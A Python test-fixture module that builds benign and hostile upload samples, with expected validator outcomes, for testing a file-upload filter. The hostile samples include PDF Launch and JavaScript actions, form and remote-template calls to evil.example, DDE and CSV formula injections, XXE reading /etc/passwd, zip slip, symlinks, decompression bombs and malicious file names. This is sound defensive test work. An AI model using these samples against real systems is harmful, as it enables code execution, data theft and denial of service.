"""Files a stranger might send: honest ones, and about seventy that are not what they seem. All are made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MARKER = b"MARKER-of-a-hidden-payload"


@dataclass(frozen=True)
class Sample:
    """One file. ``outcome`` is ``taken``, ``refused`` or ``defused`` (taken without what made it dangerous)."""

    label: str
    name: str
    make: Callable[[], bytes]
    outcome: str
    code: str = ""


# --- PDF -------------------------------------------------------------------------------------------


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] | None = None, password: str = "") -> bytes:
    """A small real PDF, changed before it is written."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def many_pages_pdf(pages: int) -> bytes:
    """One page object counted many times: small to send, long to render."""
    parts = [b"%PDF-1.7\n"]
    offsets = []

    def put(number: int, body: bytes) -> None:
        offsets.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    put(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(pages))
    put(2, b"<< /Type /Pages /Count 1 /Kids [ %s ] >>" % kids)
    for n in range(pages):
        put(3 + n, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    start = sum(map(len, parts))
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(offsets) + 1, table))
    parts.append(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, start))
    return b"".join(parts)


def circular_pdf() -> bytes:
    """A page tree that contains itself."""

    def change(writer: PdfWriter) -> None:
        pages = writer.root_object["/Pages"]
        pages["/Kids"].append(writer.root_object.raw_get("/Pages"))

    return pdf(change=change)


def _action(entry: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = entry

    return change


def _dictionary(**values: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in values.items()})


def launch_pdf() -> bytes:
    """Starts a program when opened."""
    return pdf(change=_action(_dictionary(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))))


def script_pdf() -> bytes:
    """Runs JavaScript when opened."""
    return pdf(change=_action(_dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))))


def page_script_pdf() -> bytes:
    """Runs JavaScript when its page is shown."""

    def change(writer: PdfWriter) -> None:
        run = _dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
        writer.pages[0][NameObject("/AA")] = _dictionary(O=run)

    return pdf(change=change)


def hidden_name_pdf() -> bytes:
    """JavaScript whose name is written with hex signs."""
    return page_script_pdf().replace(b"/JavaScript", b"/Java#53cript")


def attachment_pdf() -> bytes:
    """Brings another file along."""
    return pdf(change=lambda writer: writer.add_attachment("run.exe", b"MZ" + MARKER))


def form_pdf() -> bytes:
    """Sends what is typed to a stranger."""
    return pdf(change=_action(_dictionary(S=NameObject("/SubmitForm"), F=TextStringObject("http://evil.example"))))


def xfa_pdf() -> bytes:
    """An XML form with its own scripts."""

    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/AcroForm")] = _dictionary(XFA=TextStringObject("<xdp/>"))

    return pdf(change=change)


def javascript_link_pdf() -> bytes:
    """A link that is a script."""

    def change(writer: PdfWriter) -> None:
        link = _dictionary(
            Type=NameObject("/Annot"),
            Subtype=NameObject("/Link"),
            Rect=ArrayObject([NumberObject(0)] * 4),
            A=_dictionary(S=NameObject("/URI"), URI=TextStringObject("javascript:alert(1)")),
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([link])

    return pdf(change=change)


def honest_link_pdf() -> bytes:
    """A link to a page, and a first view: both harmless and common."""

    def change(writer: PdfWriter) -> None:
        link = _dictionary(
            Type=NameObject("/Annot"),
            Subtype=NameObject("/Link"),
            Rect=ArrayObject([NumberObject(0)] * 4),
            A=_dictionary(S=NameObject("/URI"), URI=TextStringObject("https://example.com/a:b")),
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([link])
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    return pdf(change=change)


def compressed_script_pdf() -> bytes:
    """JavaScript inside a compressed object stream, where a search of the bytes finds nothing."""
    inner = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    head = b"1 0 4 %d " % (len(inner) + 1)
    packed = zlib.compress(head + inner + b" " + action)
    parts = [b"%PDF-1.7\n"]
    at: dict[int, int] = {}

    def put(number: int, body: bytes) -> None:
        at[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    put(2, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>")
    put(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    put(
        5,
        b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(head), len(packed), packed),
    )
    start = sum(map(len, parts))
    rows = [(0, 0, 0), (2, 5, 0), (1, at[2], 0), (1, at[3], 0), (2, 5, 1), (1, at[5], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    parts.append(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(table), table)
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % start)
    return b"".join(parts)


# --- Pictures --------------------------------------------------------------------------------------


def picture(file_format: str = "PNG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    """A small real picture."""
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 60)).save(out, file_format, **options)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(side: int) -> bytes:
    """A square PNG of one colour: a few kilobytes that unpack to side × side pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" + b"\0" * side
    body = b"".join([*(packer.compress(row) for _ in range(side)), packer.flush()])
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def gps_jpeg() -> bytes:
    """A photograph that tells where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = MARKER.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif)


def icc_bomb_png() -> bytes:
    """A colour profile that unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(200)), packer.flush()])
    png = picture("PNG")
    return png[:33] + _chunk(b"iCCP", b"icc\0\0" + packed) + png[33:]


def text_bomb_png() -> bytes:
    """A comment that unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(200)), packer.flush()])
    png = picture("PNG")
    return png[:33] + _chunk(b"zTXt", b"Comment\0\0" + packed) + png[33:]


def animated(file_format: str, frames: int) -> bytes:
    """An animation."""
    pictures = [Image.new("P", (4, 4), n % 200) for n in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, file_format, save_all=True, append_images=pictures[1:], duration=10)
    return out.getvalue()


# --- Office ----------------------------------------------------------------------------------------


def archive(members: dict[str, bytes | str]) -> bytes:
    """A zip with these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in members.items():
            packed.writestr(name, data)
    return out.getvalue()


def document(extra: dict[str, bytes | str] | None = None, body: str = "<w:p/>", content_type: str = "") -> bytes:
    """A small Word document, with parts added or changed."""
    main = content_type or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE_RELS}/officeDocument"'
            ' Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
    }
    return archive(members | (extra or {}))


def relations(kind: str, target: str) -> str:
    """A part that links outside."""
    return (
        f'<Relationships xmlns="{RELS}"><Relationship Id="r9" Type="{OFFICE_RELS}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


def workbook(cell: object = "plain", extra: dict[str, bytes | str] | None = None) -> bytes:
    """A real workbook with one cell, with parts added."""
    book = openpyxl.Workbook()
    book.active["A1"] = cell
    out = io.BytesIO()
    book.save(out)
    if not extra:
        return out.getvalue()
    with zipfile.ZipFile(out) as packed:
        members: dict[str, bytes | str] = {name: packed.read(name) for name in packed.namelist()}
    return archive(members | extra)


def symlink_archive() -> bytes:
    """A document one of whose members is a link to a system file."""
    out = io.BytesIO(document())
    with zipfile.ZipFile(out, "a") as packed:
        member = zipfile.ZipInfo("word/media/link.png")
        member.external_attr = 0o120777 << 16
        packed.writestr(member, "/etc/passwd")
    return out.getvalue()


def lying_archive() -> bytes:
    """A document whose directory says a member is small when it is large."""
    data = bytearray(document({"word/media/a.png": bytes(5_000_000)}))
    where = data.rfind(b"word/media/a.png") - 46 + 24
    data[where : where + 4] = struct.pack("<I", 10)
    return bytes(data)


def entity_document(reference: str) -> bytes:
    """A document whose text is an entity."""
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE a [{reference}]><w:document xmlns:w="{WORD}"><w:body>&b;</w:body></w:document>'
    )
    return document({"word/document.xml": xml})


def utf16_entities() -> bytes:
    """The same, hidden in another encoding."""
    head = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]>'
    xml = f'{head}<w:document xmlns:w="{WORD}">&b;</w:document>'
    return document({"word/document.xml": xml.encode("utf-16")})


def split_field(code: str) -> str:
    """A Word field whose code is cut into pieces."""
    return "<w:p>" + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code) + "</w:p>"


LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_REL = "xl/worksheets/_rels/sheet1.xml.rels"

SAMPLES = [
    # honest files
    Sample("real pdf", "proof.pdf", pdf, "taken"),
    Sample("pdf with link and first view", "proof.pdf", honest_link_pdf, "taken"),
    Sample("real png", "photo.png", picture, "taken"),
    Sample("real jpg", "photo.JPG", lambda: picture("JPEG"), "taken"),
    Sample("real webp", "photo.webp", lambda: picture("WEBP"), "taken"),
    Sample("real docx", "letter.docx", document, "taken"),
    Sample("real xlsx", "list.xlsx", workbook, "taken"),
    Sample(
        "docx with web link",
        "letter.docx",
        lambda: document({"word/_rels/document.xml.rels": relations("hyperlink", "https://example.com")}),
        "taken",
    ),
    Sample("xlsx with sum", "list.xlsx", lambda: workbook("=SUM(B1:B3)"), "taken"),
    Sample("real csv", "list.csv", lambda: "name;amount\nMüller;-1.234,50\n".encode(), "taken"),
    Sample("csv in latin1", "list.csv", lambda: "name;amount\nMüller;+12\n".encode("latin-1"), "taken"),
    # pages and drawings under other names
    Sample("html as pdf", "proof.pdf", lambda: PAGE, "refused", "core.upload.content"),
    Sample("html as png", "proof.png", lambda: PAGE, "refused", "core.upload.content"),
    Sample("html as jpg", "proof.jpg", lambda: PAGE, "refused", "core.upload.content"),
    Sample("html as docx", "proof.docx", lambda: PAGE, "refused", "core.upload.content"),
    Sample("html as csv", "proof.csv", lambda: PAGE, "refused", "core.upload.content"),
    Sample("html", "proof.html", lambda: PAGE, "refused", "core.upload.type"),
    Sample("svg plain", "logo.svg", lambda: SVG % b"", "refused", "core.upload.type"),
    Sample(
        "svg with script as png",
        "logo.png",
        lambda: SVG % b"<script>alert(1)</script>",
        "refused",
        "core.upload.content",
    ),
    Sample("svg with page as csv", "logo.csv", lambda: SVG % b"<foreignObject/>", "refused", "core.upload.content"),
    Sample(
        "svg with entity as jpg",
        "logo.jpg",
        lambda: b"<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG % b"&a;",
        "refused",
        "core.upload.content",
    ),
    Sample("xml as csv", "a.csv", lambda: b"<?xml version='1.0'?><a/>", "refused", "core.upload.content"),
    Sample("program as pdf", "a.pdf", lambda: b"MZ" + bytes(500), "refused", "core.upload.content"),
    # PDF that acts
    Sample("pdf script", "a.pdf", script_pdf, "refused", "core.upload.active"),
    Sample("pdf page script", "a.pdf", page_script_pdf, "refused", "core.upload.active"),
    Sample("pdf script with hex name", "a.pdf", hidden_name_pdf, "refused", "core.upload.active"),
    Sample("pdf script in object stream", "a.pdf", compressed_script_pdf, "refused", "core.upload.active"),
    Sample("pdf launch", "a.pdf", launch_pdf, "refused", "core.upload.active"),
    Sample("pdf embedded file", "a.pdf", attachment_pdf, "refused", "core.upload.active"),
    Sample("pdf form that sends", "a.pdf", form_pdf, "refused", "core.upload.active"),
    Sample("pdf xfa", "a.pdf", xfa_pdf, "refused", "core.upload.active"),
    Sample("pdf script link", "a.pdf", javascript_link_pdf, "refused", "core.upload.active"),
    Sample("pdf of 10,000 pages", "a.pdf", lambda: many_pages_pdf(10_000), "refused", "core.upload.pages"),
    Sample("pdf with circle", "a.pdf", circular_pdf, "defused"),
    Sample("pdf encrypted", "a.pdf", lambda: pdf(password="secret"), "refused", "core.upload.encrypted"),
    Sample("pdf cut off", "a.pdf", lambda: pdf()[:150], "refused"),
    Sample("pdf head only", "a.pdf", lambda: b"%PDF-1.7\n%%EOF", "refused", "core.upload.broken"),
    # two things at once
    Sample(
        "pdf and html", "a.pdf", lambda: b"%PDF-1.4\n<html><script>1</script>" + pdf(), "refused", "core.upload.content"
    ),
    Sample("pdf with html tail", "a.pdf", lambda: pdf() + PAGE, "refused", "core.upload.content"),
    Sample("pdf with zip tail", "a.pdf", lambda: pdf() + document(), "refused", "core.upload.content"),
    Sample("html before pdf", "a.pdf", lambda: PAGE + pdf(), "refused", "core.upload.content"),
    Sample("gif and js", "a.gif", lambda: b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)", "refused", "core.upload.type"),
    Sample("gif as png", "a.png", lambda: animated("GIF", 2), "refused", "core.upload.content"),
    Sample("png with html tail", "a.png", lambda: picture() + MARKER + PAGE, "defused"),
    Sample("jpg with zip tail", "a.jpg", lambda: picture("JPEG") + document() + MARKER, "defused"),
    Sample("docx with page before it", "a.docx", lambda: PAGE + document(), "refused", "core.upload.content"),
    Sample("docx with tail", "a.docx", lambda: document() + PAGE, "refused", "core.upload.content"),
    Sample("docx as xlsx", "a.xlsx", document, "refused", "core.upload.content"),
    # archives
    Sample("zip", "a.zip", lambda: archive({"a.txt": "b"}), "refused", "core.upload.type"),
    Sample("zip as docx", "a.docx", lambda: archive({"a.txt": "b"}), "refused", "core.upload.content"),
    Sample(
        "zip bomb", "a.docx", lambda: document({"word/media/a.png": bytes(149_000_000)}), "refused", "core.upload.bomb"
    ),
    Sample(
        "many members",
        "a.docx",
        lambda: document({f"word/media/{n}.png": b"" for n in range(3_100)}),
        "refused",
        "core.upload.bomb",
    ),
    Sample("lying directory", "a.docx", lying_archive, "refused"),
    Sample(
        "nested zip",
        "a.docx",
        lambda: document({"word/media/a.png": archive({"b": "c"})}),
        "refused",
        "core.upload.active",
    ),
    Sample("zip slip", "a.docx", lambda: document({"../../etc/cron.d/x": "x"}), "refused", "core.upload.content"),
    Sample(
        "zip with absolute path", "a.docx", lambda: document({"/etc/cron.d/x": "x"}), "refused", "core.upload.content"
    ),
    Sample("symlink zip", "a.docx", symlink_archive, "refused", "core.upload.content"),
    # office documents that act
    Sample("docm as docx", "a.docx", lambda: document(content_type=MACRO_TYPE), "refused", "core.upload.active"),
    Sample("docm", "a.docm", lambda: document(content_type=MACRO_TYPE), "refused", "core.upload.type"),
    Sample("macro part", "a.docx", lambda: document({"word/vbaProject.bin": b"x"}), "refused", "core.upload.active"),
    Sample(
        "xlsx macro sheet",
        "a.xlsx",
        lambda: workbook(extra={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "remote template",
        "a.docx",
        lambda: document(
            {"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm")}
        ),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "picture from outside",
        "a.docx",
        lambda: document({"word/_rels/document.xml.rels": relations("image", "https://evil.example/a.png")}),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "script link",
        "a.docx",
        lambda: document({"word/_rels/document.xml.rels": relations("hyperlink", "javascript:alert(1)")}),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "share link",
        "a.xlsx",
        lambda: workbook(extra={SHEET_REL: relations("hyperlink", "file://server/share")}),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "embedded program",
        "a.docx",
        lambda: document({"word/embeddings/oleObject1.bin": b"x"}),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "embedded workbook with formula",
        "a.docx",
        lambda: document({"word/embeddings/a.xlsx": workbook('=WEBSERVICE("http://evil")')}),
        "refused",
        "core.upload.active",
    ),
    Sample("embedded workbook", "a.docx", lambda: document({"word/embeddings/a.xlsx": workbook()}), "taken"),
    Sample(
        "xlsx external link",
        "a.xlsx",
        lambda: workbook(extra={"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "refused",
        "core.upload.active",
    ),
    Sample("xlsx dde", "a.xlsx", lambda: workbook("=cmd|'/c calc'!A1"), "refused", "core.upload.active"),
    Sample(
        "xlsx web query",
        "a.xlsx",
        lambda: workbook(extra={"xl/connections.xml": "<a/>"}),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "docx dde",
        "a.docx",
        lambda: document(body=split_field("DDEAUTO c:\\\\cmd.exe")),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "docx dde as entities",
        "a.docx",
        lambda: document(
            body=split_field("&#68;DEAUTO cmd")[:40].split("<w:r>")[0]
            + "<w:r><w:instrText>&#68;DEAUTO cmd</w:instrText></w:r></w:p>"
        ),
        "refused",
        "core.upload.active",
    ),
    Sample(
        "xxe",
        "a.docx",
        lambda: entity_document('<!ENTITY b SYSTEM "file:///etc/passwd">'),
        "refused",
        "core.upload.active",
    ),
    Sample("billion laughs", "a.docx", lambda: entity_document(LAUGHS), "refused", "core.upload.active"),
    Sample("entities in utf-16", "a.docx", utf16_entities, "refused", "core.upload.active"),
    # pictures that explode or tell too much
    Sample("100 megapixel png", "a.png", lambda: huge_png(10_000), "refused", "core.upload.pixels"),
    Sample(
        "pixel flood header",
        "a.png",
        lambda: huge_png(10)[:16] + struct.pack(">II", 60_000, 60_000) + huge_png(10)[24:],
        "refused",
    ),
    Sample("apng", "a.png", lambda: animated("PNG", 3), "defused"),
    Sample("gif of 10,000 frames", "a.gif", lambda: animated("GIF", 2) + bytes(10_000), "refused", "core.upload.type"),
    Sample("webp animation", "a.webp", lambda: animated("WEBP", 3), "defused"),
    Sample("exif gps", "a.jpg", gps_jpeg, "defused"),
    Sample("icc bomb", "a.png", icc_bomb_png, "refused", "core.upload.broken"),
    Sample("comment bomb", "a.png", text_bomb_png, "refused", "core.upload.broken"),
    Sample("png cut off", "a.png", lambda: picture(size=(400, 400))[:200], "refused", "core.upload.broken"),
    # tables and nothing
    Sample("csv formula", "a.csv", lambda: b"name\n=cmd|'/c calc'!A1\n", "refused", "core.upload.formula"),
    Sample("csv plus formula", "a.csv", lambda: b"a,b\n1,+SUM(A1)\n", "refused", "core.upload.formula"),
    Sample("csv full-width formula", "a.csv", lambda: "a\n＝1+1\n".encode(), "refused", "core.upload.formula"),
    Sample("csv with NUL", "a.csv", lambda: b"a,b\0c\n", "refused", "core.upload.content"),
    Sample("csv with endless cell", "a.csv", lambda: b"a," + b"x" * 40_000, "refused", "core.upload.broken"),
    Sample("empty", "a.pdf", lambda: b"", "refused", "core.upload.empty"),
]
NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\windows\\win.pdf": "win.pdf",
    "a.html.pdf": "a.html.pdf",
    "invoice\u202efdp.exe.pdf": "invoicefdp.exe.pdf",
    "nul\x00byte.pdf": "nulbyte.pdf",
    "CON.pdf": "file-CON.pdf",
    "aux.pdf": "file-aux.pdf",
    "Rechnung 😀 März.pdf": "Rechnung 😀 März.pdf",
    "-rf.pdf": "rf.pdf",
    "=cmd|calc.pdf": "cmd calc.pdf",
    "＝cmd.pdf": "cmd.pdf",
    "x" * 300 + ".pdf": "x" * 116 + ".pdf",
    "a\r\nSet-Cookie: b.pdf": "aSet-Cookie b.pdf",
    "<img src=x>.pdf": "img src=x.pdf",
    ".pdf": "pdf",
    "...": "file",
}
WRONG_ENDINGS = [
    "a.pdf.html",
    "a.pdf%00.html",
    "a.pdf\x00.html",
    "a.pdf ",
    "a.pdf.",
    "apdf",
    "a.pdf/x.exe",
    "a.php",
    "a.PDF.svg",
]
